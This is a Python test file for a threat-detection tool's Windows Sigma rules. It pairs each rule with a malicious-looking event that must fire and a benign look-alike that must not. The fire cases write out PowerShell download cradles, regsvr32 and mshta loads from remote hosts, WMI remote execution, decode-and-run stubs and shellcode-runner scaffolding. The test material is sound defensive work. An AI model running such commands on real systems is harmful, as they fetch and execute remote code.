"""threatscope's own Sigma rules for Windows events (threatscope/detect/rules/windows/): metadata,
compilation, for every rule an event that must fire and a close look-alike that must not, benign
administration that must fire nothing, and real data (skipped when ../shared/data is absent):
malicious encoded PowerShell command lines and what they decode to, benign PowerShell scripts,
and EVTX-ATTACK-SAMPLES. Events are written from how the techniques are used, not from the
simulator."""

from __future__ import annotations

import json
import re
import uuid
from pathlib import Path

import pytest
import yaml

from threatscope.detect import evaluate, load_rules, run_detect
from threatscope.ingest import ingest_paths
from threatscope.workspace import Workspace

ROOT = Path(__file__).resolve().parents[2]
PACK = ROOT / "threatscope" / "detect" / "rules" / "windows"
RULE_FILES = sorted(PACK.glob("*.yml"))
META = {p.stem: yaml.safe_load(p.read_text(encoding="utf-8")) for p in RULE_FILES}
ID = {stem: str(d["id"]) for stem, d in META.items()}
DATA = ROOT / ".." / "shared" / "data"
PS_DATA = DATA / "powershell"
SAMPLES = DATA / "evtx" / "EVTX-ATTACK-SAMPLES"

SYS = "C:\\Windows\\System32"
PS = f"{SYS}\\WindowsPowerShell\\v1.0\\powershell.exe"
WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
EXCEL = "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE"
EXPLORER = "C:\\Windows\\explorer.exe"
USER = "C:\\Users\\bob.smith"


@pytest.fixture(scope="module")
def ruleset():
    return load_rules(builtin=True)


def proc(image: str, cmdline: str, parent: str = EXPLORER, ofn: str | None = None) -> dict:
    """A process_creation row (Sysmon 1 / 4688 fields as ingest maps them)."""
    return {"process_executable": image, "process_command_line": cmdline,
            "process_parent_executable": parent, "process_pe_original_file_name": ofn}


def script(text: str) -> dict:
    """A ps_script row (a 4104 script block)."""
    return {"script_block_text": text}


# --- metadata -------------------------------------------------------------------------------
def test_pack_compiles(ruleset):
    assert len(RULE_FILES) >= 15
    failed = [f for f in ruleset.failed if Path(f.path).resolve().is_relative_to(PACK)]
    assert failed == []
    assert set(ID.values()) <= {r.id for r in ruleset.rules}
    assert len(set(ID.values())) == len(ID)


@pytest.mark.parametrize("stem", sorted(META))
def test_rule_metadata(stem):
    d = META[stem]
    uuid.UUID(str(d["id"]))
    assert d["title"] and d["description"] and d["author"] == "threatscope"
    assert d["status"] in {"test", "experimental"} and d["references"] and d["falsepositives"]
    assert d["level"] in {"informational", "low", "medium", "high", "critical"}
    assert d["logsource"]["product"] == "windows"
    category = d["logsource"]["category"]
    assert category in {"process_creation", "ps_script"}
    assert stem.startswith({"process_creation": "proc_creation_win_", "ps_script": "posh_ps_"}[
        category])
    tags = d["tags"]
    techniques = [t for t in tags if re.fullmatch(r"attack\.t\d{4}(\.\d{3})?", t)]
    assert techniques, "an ATT&CK technique"
    tactics = {t for t in tags if t.startswith("attack.") and t not in techniques}
    assert tactics and tactics <= {"attack.execution", "attack.defense-evasion",
                                   "attack.command-and-control"}
    families = [t.split(".", 2)[2] for t in tags
                if t.startswith(("threatscope.family.", "threatscope.malware."))]
    docs = (ROOT / "docs" / "architecture.md").read_text(encoding="utf-8")
    assert all(f"`{f}`" in docs.split("## Rule tags", 1)[1] for f in families)


# --- one event that fires, one look-alike that does not -------------------------------------
ENC = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
CASES: list[tuple[str, dict, bool]] = [
    # Office spawning a shell or script host
    ("proc_creation_win_office_spawn_shell_or_script_host",
     proc(f"{SYS}\\cmd.exe", "cmd.exe /c start calc", WORD), True),
    ("proc_creation_win_office_spawn_shell_or_script_host",
     proc(f"{USER}\\AppData\\Local\\Temp\\upd.exe", "upd.exe -nop", EXCEL, "PowerShell.EXE"), True),
    ("proc_creation_win_office_spawn_shell_or_script_host",
     proc("C:\\Windows\\splwow64.exe", "C:\\Windows\\splwow64.exe 8192", WORD), False),
    ("proc_creation_win_office_spawn_shell_or_script_host",
     proc(EXCEL, f'"{EXCEL}" "C:\\Users\\b\\Documents\\q2.xlsx"',
          "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"), False),
    # cmd
    ("proc_creation_win_cmd_suspicious_parent_or_obfuscation",
     proc(f"{SYS}\\cmd.exe", "cmd /c echo hi > %TEMP%\\a.txt", WORD), True),
    ("proc_creation_win_cmd_suspicious_parent_or_obfuscation",
     proc(f"{SYS}\\cmd.exe", "cmd /c p^o^w^e^r^s^h^e^l^l -nop -c calc"), True),
    ("proc_creation_win_cmd_suspicious_parent_or_obfuscation",
     proc(f"{SYS}\\cmd.exe", 'cmd /V:ON /C "set x=%COMSPEC:~-16,1%&& call %x%"'), True),
    ("proc_creation_win_cmd_suspicious_parent_or_obfuscation",
     proc(f"{SYS}\\cmd.exe", "cmd.exe /c robocopy D:\\Data \\\\nas\\bk\\%date:~-4,4% /MIR",
          f"{SYS}\\svchost.exe"), False),
    ("proc_creation_win_cmd_suspicious_parent_or_obfuscation",
     proc(f"{SYS}\\cmd.exe", "cmd /c echo ^<b^>bold^</b^> > page.html"), False),
    # PowerShell used the way malware uses it
    ("proc_creation_win_powershell_suspicious_execution",
     proc(PS, "powershell.exe -nop -w hidden -c Get-Date"), True),
    ("proc_creation_win_powershell_suspicious_execution",
     proc(PS, "powershell.exe -NoProfile -WindowStyle Hidden -File a.ps1"), True),
    ("proc_creation_win_powershell_suspicious_execution",
     proc(PS, "powershell.exe Get-Date", WORD), True),
    ("proc_creation_win_powershell_suspicious_execution",
     proc(PS, "powershell -c \"IEX (iwr http://192.0.2.1/a -UseBasicParsing)\""), True),
    ("proc_creation_win_powershell_suspicious_execution",
     proc(f"{USER}\\sv.exe", "sv.exe -win hid -c x", EXPLORER, "PowerShell.EXE"), True),
    ("proc_creation_win_powershell_suspicious_execution",
     proc(PS, 'powershell.exe -NoProfile -ExecutionPolicy Bypass -File "C:\\ProgramData\\IT\\inv.ps1"',
          f"{SYS}\\svchost.exe"), False),
    ("proc_creation_win_powershell_suspicious_execution",
     proc(PS, 'powershell -Command "Get-Service | Where-Object Status -eq Running"',
          f"{SYS}\\cmd.exe"), False),
    ("proc_creation_win_powershell_suspicious_execution",
     proc(PS, "powershell.exe -WindowStyle Normal -File C:\\Scripts\\menu.ps1"), False),
    # -EncodedCommand, abbreviated, with any dash
    ("proc_creation_win_powershell_encoded_command", proc(PS, f"powershell -enc {ENC}"), True),
    ("proc_creation_win_powershell_encoded_command", proc(PS, f"powershell /e {ENC}"), True),
    ("proc_creation_win_powershell_encoded_command",
     proc(PS, f"powershell -nop \u2013EncodedCommand {ENC}"), True),
    ("proc_creation_win_powershell_encoded_command",
     proc("C:\\Program Files\\PowerShell\\6\\pwsh.exe", f"pwsh -ec {ENC}", EXPLORER, "pwsh.dll"),
     True),
    ("proc_creation_win_powershell_encoded_command",
     proc(PS, "powershell.exe -ep bypass -file C:\\Scripts\\encode-files.ps1"), False),
    ("proc_creation_win_powershell_encoded_command",
     proc(f"{SYS}\\cmd.exe", f"cmd.exe /c powershell -enc {ENC}"), False),
    # download cradles in the command line
    ("proc_creation_win_powershell_download_cradle",
     proc(PS, "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.9/a')\""),
     True),
    ("proc_creation_win_powershell_download_cradle",
     proc(PS, "powershell -c \"(New-Object Net.WebClient).DownloadFile('http://192.0.2.9/a.exe',"
              "'C:\\Users\\Public\\a.exe');Start-Process 'C:\\Users\\Public\\a.exe'\""), True),
    ("proc_creation_win_powershell_download_cradle",
     proc(PS, "powershell iwr http://192.0.2.9/a.ps1 -UseBasicParsing | iex"), True),
    ("proc_creation_win_powershell_download_cradle",
     proc(PS, "powershell -c \"Invoke-WebRequest -Uri https://intranet/agent.zip -OutFile "
              "C:\\Temp\\agent.zip\""), False),
    ("proc_creation_win_powershell_download_cradle",
     proc(f"{SYS}\\cmd.exe", "cmd /c powershell IEX (New-Object Net.WebClient).DownloadString"
                             "('http://192.0.2.9/a')"), False),
    # WMI
    ("proc_creation_win_wmic_process_call_create",
     proc(f"{SYS}\\wbem\\WMIC.exe", 'wmic process call create "notepad.exe"'), True),
    ("proc_creation_win_wmic_process_call_create",
     proc(f"{SYS}\\wbem\\WMIC.exe", 'WMIC.exe /node:10.0.0.5 /user:CORP\\adm PROCESS CALL CREATE '
                                    '"cmd /c whoami"'), True),
    ("proc_creation_win_wmic_process_call_create",
     proc(f"{USER}\\w.exe", 'w.exe process call create "calc"', EXPLORER, "wmic.exe"), True),
    ("proc_creation_win_wmic_process_call_create",
     proc(f"{SYS}\\wbem\\WMIC.exe", "wmic logicaldisk get caption,freespace"), False),
    ("proc_creation_win_wmic_process_call_create",
     proc(f"{SYS}\\wbem\\WMIC.exe", "wmic process list brief"), False),
    ("proc_creation_win_wmiprvse_spawns_shell",
     proc(PS, "powershell -c Get-Date", f"{SYS}\\wbem\\WmiPrvSE.exe"), True),
    ("proc_creation_win_wmiprvse_spawns_shell",
     proc(f"{SYS}\\cmd.exe", "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1 2>&1",
          f"{SYS}\\wbem\\WmiPrvSE.exe"), True),
    ("proc_creation_win_wmiprvse_spawns_shell",
     proc(f"{SYS}\\msiexec.exe", "msiexec.exe /i x.msi /qn", f"{SYS}\\wbem\\WmiPrvSE.exe"), False),
    ("proc_creation_win_wmiprvse_spawns_shell",
     proc(f"{SYS}\\wbem\\WmiPrvSE.exe", "wmiprvse.exe -Embedding", f"{SYS}\\svchost.exe"), False),
    # rundll32 / regsvr32 / mshta
    ("proc_creation_win_rundll32_user_writable_dll",
     proc(f"{SYS}\\rundll32.exe", f"rundll32.exe {USER}\\AppData\\Local\\Temp\\a.dll,Start"), True),
    ("proc_creation_win_rundll32_user_writable_dll",
     proc(f"{SYS}\\rundll32.exe", "rundll32 %APPDATA%\\x.dat,#1"), True),
    ("proc_creation_win_rundll32_user_writable_dll",
     proc(f"{SYS}\\rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL desk.cpl"), False),
    ("proc_creation_win_rundll32_user_writable_dll",
     proc(f"{SYS}\\rundll32.exe", 'rundll32.exe "C:\\Program Files\\Contoso\\c.dll",Run'), False),
    ("proc_creation_win_regsvr32_suspicious_load",
     proc(f"{SYS}\\regsvr32.exe", f"regsvr32 /s {USER}\\AppData\\Roaming\\x.ocx"), True),
    ("proc_creation_win_regsvr32_suspicious_load",
     proc(f"{SYS}\\regsvr32.exe", "regsvr32 /s /n /u /i:http://192.0.2.4/a.sct scrobj.dll"), True),
    ("proc_creation_win_regsvr32_suspicious_load",
     proc(f"{SYS}\\regsvr32.exe", "regsvr32 -s ..\\oxnv1.ooccxx", EXCEL), True),
    ("proc_creation_win_regsvr32_suspicious_load",
     proc(f"{SYS}\\regsvr32.exe", 'regsvr32.exe /s "C:\\Program Files (x86)\\Contoso\\v.ocx"',
          f"{SYS}\\msiexec.exe"), False),
    ("proc_creation_win_mshta_suspicious_execution",
     proc(f"{SYS}\\mshta.exe", "mshta http://192.0.2.4/a.hta"), True),
    ("proc_creation_win_mshta_suspicious_execution",
     proc(f"{SYS}\\mshta.exe", 'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run '
                               '""calc"":close")'), True),
    ("proc_creation_win_mshta_suspicious_execution",
     proc(f"{SYS}\\mshta.exe", f'mshta "{USER}\\Downloads\\invoice.hta"'), True),
    ("proc_creation_win_mshta_suspicious_execution",
     proc(f"{SYS}\\mshta.exe", 'mshta "C:\\Program Files\\Contoso\\help.hta"', WORD), True),
    ("proc_creation_win_mshta_suspicious_execution",
     proc(f"{SYS}\\mshta.exe", 'mshta.exe "C:\\Program Files (x86)\\Contoso\\Setup\\welcome.hta"'),
     False),
    # Windows Script Host
    ("proc_creation_win_wsh_vbscript_user_folder",
     proc(f"{SYS}\\wscript.exe", f'wscript.exe "{USER}\\AppData\\Roaming\\upd.vbs"'), True),
    ("proc_creation_win_wsh_vbscript_user_folder",
     proc(f"{SYS}\\cscript.exe", "cscript //nologo C:\\ProgramData\\x.vbs", WORD), True),
    ("proc_creation_win_wsh_vbscript_user_folder",
     proc(f"{SYS}\\cscript.exe", "cscript //nologo C:\\Windows\\System32\\slmgr.vbs /dli",
          f"{SYS}\\cmd.exe"), False),
    ("proc_creation_win_wsh_vbscript_user_folder",
     proc(f"{SYS}\\wscript.exe", 'wscript.exe "\\\\corp.local\\NETLOGON\\drives.vbs"',
          f"{SYS}\\gpscript.exe"), False),
    ("proc_creation_win_wsh_vbscript_user_folder",
     proc(f"{SYS}\\wscript.exe", f'wscript.exe "{USER}\\AppData\\Local\\Temp\\a.js"'), False),
    ("proc_creation_win_wsh_jscript_user_folder",
     proc(f"{SYS}\\wscript.exe",
          f'wscript.exe "{USER}\\AppData\\Local\\Temp\\Temp1_inv.zip\\inv.js"'), True),
    ("proc_creation_win_wsh_jscript_user_folder",
     proc(f"{SYS}\\cscript.exe", "cscript //E:jscript C:\\Users\\Public\\a.txt"), True),
    ("proc_creation_win_wsh_jscript_user_folder",
     proc(f"{SYS}\\wscript.exe", f'wscript.exe "{USER}\\AppData\\Local\\Temp\\a.vbs"'), False),
    ("proc_creation_win_wsh_jscript_user_folder",
     proc(f"{SYS}\\wscript.exe", f'wscript.exe "{USER}\\AppData\\Roaming\\settings.json"'), False),
    # Emotet's loader started by rundll32
    ("proc_creation_win_malware_emotet_rundll32_control_rundll",
     proc("C:\\Windows\\SysWOW64\\rundll32.exe",
          f'"C:\\Windows\\SysWOW64\\rundll32.exe" "{USER}\\AppData\\Local\\Khbdr\\uhcmk.pzq",'
          "Control_RunDLL"), True),
    ("proc_creation_win_malware_emotet_rundll32_control_rundll",
     proc(f"{SYS}\\rundll32.exe", f"rundll32.exe {USER}\\AppData\\Local\\Temp\\x.dll,RunDLL"),
     True),
    ("proc_creation_win_malware_emotet_rundll32_control_rundll",
     proc(f"{SYS}\\rundll32.exe", f"{SYS}\\rundll32.exe shell32.dll,Control_RunDLL desk.cpl"),
     False),
    ("proc_creation_win_malware_emotet_rundll32_control_rundll",
     proc(f"{SYS}\\rundll32.exe", f"rundll32 {USER}\\AppData\\Local\\x\\y.dll,DllRegisterServer"),
     False),
]

SCRIPT_CASES: list[tuple[str, dict, bool]] = [
    ("posh_ps_download_cradle",
     script("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/p.ps1')"), True),
    ("posh_ps_download_cradle",
     script("$p=\"$env:TEMP\\u.exe\"\n$wc = New-Object System.Net.WebClient\n"
            "$wc.DownloadFile('http://192.0.2.7/u.exe', $p)\nStart-Process $p"), True),
    ("posh_ps_download_cradle",
     script("$d=(New-Object Net.WebClient).DownloadData($u);$k=0x42;"
            "IEX ([Text.Encoding]::UTF8.GetString(($d|%{$_ -bxor $k})))"), True),
    ("posh_ps_download_cradle",
     script("Invoke-WebRequest -Uri 'https://intranet/tools/agent.zip' -OutFile \"$env:TEMP\\a.zip\";"
            " Expand-Archive -Path \"$env:TEMP\\a.zip\" -DestinationPath 'C:\\Agent' -Force"), False),
    ("posh_ps_download_cradle",
     script("Start-Process msiexec.exe -ArgumentList '/i \\\\fs01\\sw\\7z.msi /qn' -Wait"), False),
    ("posh_ps_decode_and_run",
     script("$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAAA'));"
            "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,"
            "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"), True),
    ("posh_ps_decode_and_run",
     script("[Reflection.Assembly]::Load([Convert]::FromBase64String($blob)).EntryPoint"
            ".Invoke($null, $null)"), True),
    ("posh_ps_decode_and_run",
     script("$raw = [Convert]::FromBase64String($pem)\n"
            "$cert = New-Object Security.Cryptography.X509Certificates.X509Certificate2(,$raw)"),
     False),
    ("posh_ps_shellcode_injection",
     script("$k = Add-Type -MemberDefinition '[DllImport(\"kernel32.dll\")] public static extern "
            "IntPtr VirtualAlloc(IntPtr a, uint b, uint c, uint d); [DllImport(\"kernel32.dll\")] "
            "public static extern IntPtr CreateThread(IntPtr a, uint b, IntPtr c, IntPtr d, uint "
            "e, IntPtr f);' -Name K -PassThru; $m = $k::VirtualAlloc(0, 4096, 0x3000, 0x40)"),
     True),
    ("posh_ps_shellcode_injection",
     script("Get-Process | Select-Object Name, VirtualMemorySize64, PrivateMemorySize64"), False),
    ("posh_ps_shellcode_injection",
     script("# documents kernel32 VirtualAlloc for the memory report\n"
            "Get-Counter '\\Memory\\Committed Bytes'"), False),
]

ALL_CASES = CASES + SCRIPT_CASES
CASE_IDS = [f"{i:03d}-{stem}-{'fire' if fire else 'quiet'}"
            for i, (stem, _, fire) in enumerate(ALL_CASES)]


@pytest.fixture(scope="module")
def case_results(ruleset):
    return (evaluate(ruleset, "process_creation", [row for _, row, _ in CASES])
            + evaluate(ruleset, "ps_script", [row for _, row, _ in SCRIPT_CASES]))


@pytest.mark.parametrize("i", range(len(ALL_CASES)), ids=CASE_IDS)
def test_rule_case(case_results, i):
    stem, row, fire = ALL_CASES[i]
    assert (ID[stem] in case_results[i]) == fire, f"{stem} {'missed' if fire else 'fired on'} {row}"


def test_every_rule_has_a_positive_and_a_negative_case():
    assert {stem for stem, _, fire in ALL_CASES if fire} == set(META)
    assert {stem for stem, _, fire in ALL_CASES if not fire} == set(META)


# Administration that a pack flagging it would drown analysts in
BENIGN_PROC = [
    proc(PS, f'"{PS}" '),
    proc(PS, 'powershell -NoProfile -Command "Get-Service -Name Spooler | Restart-Service"',
         f"{SYS}\\cmd.exe"),
    proc(PS, 'powershell.exe -NoLogo -NonInteractive -ExecutionPolicy Bypass -File '
             '"C:\\Windows\\CCM\\SystemTemp\\a1b2.ps1"', "C:\\Windows\\CCM\\CcmExec.exe"),
    proc(f"{SYS}\\cmd.exe", f'"{SYS}\\cmd.exe" '),
    proc(f"{SYS}\\cmd.exe", 'cmd.exe /c "C:\\ProgramData\\Backup\\nightly.cmd"',
         f"{SYS}\\svchost.exe"),
    proc(f"{SYS}\\ipconfig.exe", "ipconfig /all", f"{SYS}\\cmd.exe"),
    proc(f"{SYS}\\wbem\\WMIC.exe", "wmic qfe list brief", f"{SYS}\\cmd.exe"),
    proc(f"{SYS}\\rundll32.exe", "rundll32 printui.dll,PrintUIEntry /in /n\\\\prn\\HP-2F"),
    proc(f"{SYS}\\schtasks.exe", "schtasks /query /fo LIST", f"{SYS}\\cmd.exe"),
    proc(WORD, f'"{WORD}" /n "C:\\Users\\b\\Documents\\Minutes.docx" /o ""'),
    proc("C:\\Program Files (x86)\\Google\\Chrome\\Application\\chrome.exe",
         '"chrome.exe" -- "https://intranet/news/12"',
         "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"),
]
BENIGN_SCRIPTS = [
    script("{ Set-StrictMode -Version 1; $_.PSMessageDetails }"),
    script("Get-Process | Sort-Object CPU -Descending | Select-Object -First 10"),
    script("$report | ConvertTo-Json -Depth 4 | Out-File C:\\Reports\\inv.json\n"
           "Invoke-RestMethod -Uri $ReportUri -Method Post -UseDefaultCredentials -Body $json"),
    script("Get-ChildItem C:\\Temp -Recurse | Where-Object {$_.LastWriteTime -lt "
           "(Get-Date).AddDays(-30)} | Remove-Item -WhatIf"),
]


def test_benign_administration_fires_nothing(ruleset):
    names = {v: k for k, v in ID.items()}
    got = [(row, [names.get(r, r) for r in hit]) for row, hit in zip(
        BENIGN_PROC + BENIGN_SCRIPTS,
        evaluate(ruleset, "process_creation", BENIGN_PROC)
        + evaluate(ruleset, "ps_script", BENIGN_SCRIPTS), strict=True) if hit]
    assert got == []


# --- real data -----------------------------------------------------------------------------
@pytest.mark.skipif(not (PS_DATA / "unit42_psencmds.jsonl").is_file(), reason="no shared data")
def test_real_encoded_commands_and_what_they_decode_to(ruleset):
    """Unit 42's malicious `powershell -enc` command lines: every one is an encoded command;
    the payloads of the downloader families are download cradles, those of the shellcode
    families shellcode runners."""
    rows = [json.loads(x) for x in (PS_DATA / "unit42_psencmds.jsonl").read_text().splitlines()]
    hits = evaluate(ruleset, "process_creation",
                    [proc(PS, r["commandline"], EXPLORER) for r in rows])
    assert sum(ID["proc_creation_win_powershell_encoded_command"] in h for h in hits) == len(rows)
    decoded = evaluate(ruleset, "ps_script", [script(r["decoded"]) for r in rows])
    for families, stem in [
        (lambda f: f.startswith("Downloader"), "posh_ps_download_cradle"),
        (lambda f: f in {"Shellcode Inject", "Unicorn", "Unicorn Modified", "SET"},
         "posh_ps_shellcode_injection"),
        (lambda f: f in {"Powerfun Reverse", "Veil Stream"}, "posh_ps_decode_and_run"),
    ]:
        sel = [h for r, h in zip(rows, decoded, strict=True) if families(r["family"])]
        assert sel and all(ID[stem] in h for h in sel), stem
    empire = [h for r, h in zip(rows, decoded, strict=True) if r["family"] == "PowerShell Empire"]
    assert sum(ID["posh_ps_download_cradle"] in h for h in empire) >= 0.95 * len(empire)


@pytest.mark.skipif(not (PS_DATA / "benign").is_dir(), reason="no shared data")
def test_real_benign_scripts_rarely_fire(ruleset):
    """901 benign scripts (PowerShell's own tests and tools, a DSC module) as script blocks:
    at most 0.5% fire a rule (the two known: an installer that pipes a downloaded script into
    Invoke-Expression, and an AMSI test that decodes EICAR and runs it on purpose)."""
    files = sorted((PS_DATA / "benign").iterdir())
    hits = evaluate(ruleset, "ps_script",
                    [script(p.read_text(encoding="utf-8", errors="replace")) for p in files])
    fired = [p.name for p, h in zip(files, hits, strict=True) if set(h) & set(ID.values())]
    assert len(fired) <= 0.005 * len(files), fired


# sample -> techniques the pack must flag in it
EVTX_EXPECTED = {
    "Execution/exec_sysmon_lobin_regsvr32_sct.evtx": {"T1218.010"},
    "Execution/sysmon_mshta_sharpshooter_stageless_meterpreter.evtx": {"T1218.005"},
    "Execution/sysmon_vbs_sharpshooter_stageless_meterpreter.evtx": {"T1059.005"},
    "Execution/sysmon_exec_from_vss_persistence.evtx": {"T1047"},
    "Lateral Movement/LM_wmiexec_impacket_sysmon_whoami.evtx": {"T1047", "T1059.003"},
}


@pytest.mark.skipif(not SAMPLES.is_dir(), reason="no ../shared/data/evtx")
def test_evtx_attack_samples_flagged_by_the_pack(tmp_path):
    ws = Workspace.open(tmp_path / "ws", create=True)
    summary = ingest_paths(ws, [str(SAMPLES / f) for f in EVTX_EXPECTED], org="lab")
    assert not summary.errors and summary.rows_written > 0
    run_detect(ws)
    with ws.connect() as con:
        found = con.execute(
            "SELECT source_file, list(DISTINCT t) FROM (SELECT source_file, "
            "unnest(attack_techniques) AS t FROM detection) GROUP BY 1").fetchall()
    got = {f: set() for f in EVTX_EXPECTED}
    for path, techniques in found:
        for f in EVTX_EXPECTED:
            if path.endswith(f):
                got[f] |= set(techniques)
    assert {f: sorted(want - got[f]) for f, want in EVTX_EXPECTED.items() if want - got[f]} == {}
